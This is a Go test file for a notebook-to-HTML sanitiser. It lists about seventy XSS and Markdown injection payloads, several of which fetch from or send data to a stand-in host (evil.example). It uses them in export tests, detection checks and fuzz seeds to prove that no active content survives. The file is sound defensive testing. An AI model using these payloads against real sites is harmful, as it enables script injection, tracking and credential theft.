package html

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/quirehq/quire/core/event"
)

// hostile is malicious HTML.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg onload=alert(1)>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.example/pixel.png">`,
	`<img src="//evil.example/pixel.png" srcset="https://evil.example/2x.png 2x">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<img src="data:image/png;base64,` + dot + `" onload="alert(1)" style="position:fixed;inset:0;width:100vw;height:100vh">`,
	`<picture><source srcset="https://evil.example/x.webp"><img src=x></picture>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt&#58;alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="//evil.example/share">x</a>`,
	`<a href="\\evil.example\share">x</a>`,
	`<a href="#x" onclick="alert(1)" target="_top" ping="https://evil.example/">x</a>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<object data="https://evil.example/x.swf"></object><embed src="x">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<link rel="prefetch" href="https://evil.example/">`,
	`<style>@import url(https://evil.example/x.css); body { display: none }</style>`,
	`<div style="background-image: url(https://evil.example/x.png)">x</div>`,
	`<div style="position: fixed; inset: 0; z-index: 9; background: white">x</div>`,
	`<div style="color: red; width: expression(alert(1))">x</div>`,
	`<div style="color: url(javascript:alert(1))">x</div>`,
	`<div style="background-color: \75rl(https://evil.example)">x</div>`,
	`<table background="https://evil.example/x.png"><tr><td background="x">1</td></tr></table>`,
	`<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<input type="image" src="https://evil.example/x.png">`,
	`<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video><audio src=x autoplay>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>`,
	`<p id="x" name="y" contenteditable onfocus=alert(1) autofocus tabindex=0>x</p>`,
	`</div></div></section></main><h1>Not yours</h1><main>`,
	`</style></title></head><script>alert(1)</script>`,
	`<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>`,
	`<xmp><img src=x onerror=alert(1)></xmp><plaintext>`,
	`<b <script>alert(1)</script>0</b>`,
	"<img src='x\x00' onerror\x00=alert(1)>",
	strings.Repeat("<div>", 2000) + "<script>alert(1)</script>",
}

// hostileText is malicious Markdown, and text of other types.
var hostileText = []string{
	`[x](javascript:alert(1))`,
	`[x](<java	script:alert(1)>)`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`<javascript:alert(1)>`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`![x](https://evil.example/pixel.png)`,
	`![x](javascript:alert(1))`,
	`![x"onerror="alert(1)](x "y\" onerror=\"alert(1)")`,
	"```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	"| a |\n|---|\n| <script>alert(1)</script> |",
	"# x {onclick=alert(1)}",
	"\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
	"\x1b[38;2;1;2;\"onclick=alert(1)mx",
	`</pre><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`' onmouseover='alert(1)`,
}

func TestNothingOfAStrangersNotebookRunsOrIsFetched(t *testing.T) {
	for _, evil := range slices.Concat(hostile, hostileText) {
		t.Run(evil[:min(60, len(evil))], func(t *testing.T) {
			out := display(map[string]string{"text/html": evil})
			n := book(t, evil[:min(1000, len(evil))],
				cell{kind: event.KindMarkdown, source: evil, metadata: map[string]string{"ipynb": `{"attachments":{"x":{"image/png":"\"onerror=alert(1)"}}}`}},
				cell{kind: event.KindMarkdown, source: "text " + evil + " ![a](attachment:x)"},
				cell{kind: event.KindRaw, source: evil},
				cell{kind: event.KindCode, language: evil[:min(20, len(evil))], source: evil, outputs: []event.Output{
					out,
					display(map[string]string{"text/markdown": evil}),
					display(map[string]string{"image/svg+xml": evil, "text/plain": evil}),
					display(map[string]string{"image/png": evil, "text/plain": evil}),
					display(map[string]string{"image/png": dot, "text/plain": evil}),
					display(map[string]string{"text/latex": evil}),
					display(map[string]string{"application/json": `{` + quote(evil) + `:` + quote(evil) + `}`}),
					display(map[string]string{"application/javascript": evil, evil: evil}),
					{Kind: event.OutputStream, Stream: event.Stdout, Text: evil},
					{Kind: event.OutputError, Error: &event.Error{Name: evil, Message: evil}},
				}},
				cell{kind: event.KindAI, source: evil, outputs: []event.Output{{Kind: event.OutputMarkdown, Text: evil}}},
				cell{kind: event.KindCode, language: "html", source: evil, hide: true},
			)
			mustBeQuiet(t, mustExport(t, n))
		})
	}
}

func quote(s string) string {
	data := display(map[string]string{"x": s}).Data["x"]
	return string(data)
}

// allowed are the permitted attributes by element. Those under "" are permitted on all.
var allowed = map[string][]string{
	"":         {"class", "title", "lang", "dir", "align", "valign", "style"},
	"html":     {"lang"},
	"meta":     {"charset", "name", "content", "http-equiv"},
	"img":      {"src", "alt", "width", "height"},
	"a":        {"href", "rel", "target"},
	"details":  {"open"},
	"ol":       {"start"},
	"li":       {"value"},
	"th":       {"colspan", "rowspan", "scope", "width", "height"},
	"td":       {"colspan", "rowspan", "width", "height"},
	"col":      {"span", "width", "height"},
	"colgroup": {"span"},
	"table":    {"width", "height"},
}

var elements = strings.Fields(`html head body meta title style main header section div details summary pre code span p img a h1 h2 h3 h4 h5 h6 br hr
	blockquote kbd samp var b strong i em u s del ins sub sup small mark abbr cite q dfn center wbr ul ol li dl dt dd figure figcaption
	table caption colgroup col thead tbody tfoot tr th td`)

// The permitted elements and attributes of formulas.
var (
	formulaElements = strings.Fields(`math semantics annotation mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover
		mtable mtr mtd mstyle mphantom`)
	formulaAttributes = strings.Fields(`accent display displaystyle encoding linethickness mathvariant movablelimits stretchy style width`)
)

// formulaFaults lists the faults of a part of a formula.
func formulaFaults(n *html.Node) (list []string) {
	if !slices.Contains(formulaElements, n.Data) {
		list = append(list, "the element "+n.Data+" in a formula")
	}
	for _, a := range n.Attr {
		if !slices.Contains(formulaAttributes, a.Key) || !isQuiet("", html.Attribute{Key: "style", Val: a.Val}) {
			list = append(list, "the attribute "+a.Key+"="+a.Val+" in a formula")
		}
	}
	return list
}

// mustBeQuiet checks that a page has no active or fetched content, and no untrusted content outside
// its places.
func mustBeQuiet(t *testing.T, page string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for n := range root.Descendants() {
		for _, fault := range faults(n) {
			t.Errorf("got %s", fault)
		}
		if n.Type != html.ElementNode {
			continue
		}
		count[n.Data]++
		if parent := n.Parent; n.Data == "section" && parent.Data != "main" || n.Data == "main" && parent.Data != "body" {
			t.Errorf("got a %s in a %s", n.Data, parent.Data)
		}
	}
	for name, want := range map[string]int{"meta": 6, "style": 1, "title": 1, "main": 1, "body": 1, "section": 6} {
		if count[name] != want {
			t.Errorf("got %d of %s, want %d", count[name], name, want)
		}
	}
	if !strings.Contains(page, `http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src`) {
		t.Error("got no policy")
	}
}

// faults lists the faults of a part of a page.
func faults(n *html.Node) []string {
	if n.Type == html.CommentNode {
		return []string{"the comment " + n.Data}
	}
	if n.Type != html.ElementNode {
		return nil
	}
	if n.Namespace == "math" {
		return formulaFaults(n)
	}
	var list []string
	if n.Namespace != "" || !slices.Contains(elements, n.Data) {
		list = append(list, "the element "+n.Namespace+" "+n.Data)
	}
	if n.Data == "style" && n.FirstChild.Data != "\n"+style {
		list = append(list, "the style "+n.FirstChild.Data)
	}
	for _, a := range n.Attr {
		if !isQuiet(n.Data, a) {
			list = append(list, "the attribute "+a.Key+"="+a.Val+" on "+n.Data)
		}
	}
	return list
}

func isQuiet(element string, a html.Attribute) bool {
	known := append(slices.Clone(allowed[""]), allowed[element]...)
	if strings.HasPrefix(element, "h") && len(element) == 2 {
		known = append(known, "id")
	}
	if !slices.Contains(known, a.Key) {
		return false
	}
	value := strings.ToLower(strings.TrimSpace(a.Val))
	switch a.Key {
	case "href":
		scheme, _, found := strings.Cut(value, ":")
		return strings.HasPrefix(value, "#") || (!found || slices.Contains([]string{"http", "https", "mailto"}, scheme)) && !strings.HasPrefix(value, "//") && !strings.Contains(value, `\`)
	case "src":
		return strings.HasPrefix(value, "data:image/") && !strings.HasPrefix(value, "data:image/svg+xml,")
	case "style":
		return !slices.ContainsFunc([]string{"url", "expression", "position", "inset", `\`}, func(bad string) bool { return strings.Contains(value, bad) })
	}
	return true
}

func TestTheCheckFindsWhatIsActive(t *testing.T) {
	for _, active := range []string{`<img onerror=x>`, `<a href="javascript:x">`, `<img src="http://x">`, `<div style="position:fixed">`, `<form>`, `<svg>`, `<!-- x -->`, `<math href="x">`, `<math><maction>`} {
		root, err := html.Parse(strings.NewReader(active))
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for n := range root.Descendants() {
			found += len(faults(n))
		}
		if found == 0 {
			t.Errorf("nothing is found wrong with %s", active)
		}
	}
}

func TestAPictureOfSVGIsAnImage(t *testing.T) {
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`
	page := mustExport(t, book(t, "", cell{kind: event.KindCode, source: "x", outputs: []event.Output{display(map[string]string{"image/svg+xml": svg})}}))
	if want := `<img src="data:image/svg+xml;base64,` + base64.StdEncoding.EncodeToString([]byte(svg)); !strings.Contains(page, want) || strings.Contains(page, "<svg") {
		t.Error("got the picture other than as an image")
	}
}

func FuzzNothingActiveIsLeftOfHTML(f *testing.F) {
	for _, seed := range slices.Concat(hostile[:len(hostile)-1], hostileText) {
		f.Add(seed)
	}
	code, err := newHighlighter()
	if err != nil {
		f.Fatal(err)
	}
	c := newSanitiser(code)
	f.Fuzz(func(t *testing.T, source string) {
		text, err := c.markdown(source, nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, clean := range []string{c.html(source, nil), text} {
			root, err := html.Parse(strings.NewReader(clean))
			if err != nil {
				continue // nested too deep to be parsed
			}
			for n := range root.Descendants() {
				for _, fault := range faults(n) {
					t.Errorf("got %s of %q", fault, source)
				}
			}
		}
	})
}
